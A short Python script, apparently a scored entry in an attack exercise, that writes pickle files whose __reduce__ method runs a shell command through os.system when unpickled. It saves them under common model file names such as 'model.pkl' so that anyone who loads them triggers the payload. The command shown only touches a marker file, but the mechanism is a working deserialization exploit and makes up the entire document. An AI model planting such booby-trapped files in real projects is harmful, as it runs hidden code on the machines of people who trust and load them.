"""Leave a pickle with a payload under each name that somebody might load.

gains: nothing
score: 20
outcome: completed
"""

import os
import pickle

from kit import TARGETS, drive


class Payload:
    """Runs a command when it is unpickled."""

    def __reduce__(self):
        return os.system, (f"touch {TARGETS.get('watched', '.')}/payload",)


for name in ("velocity_model.pkl", "model.pkl", "kit.pkl", "recording.pkl"):
    with open(name, "wb") as file:
        pickle.dump(Payload(), file)
drive()
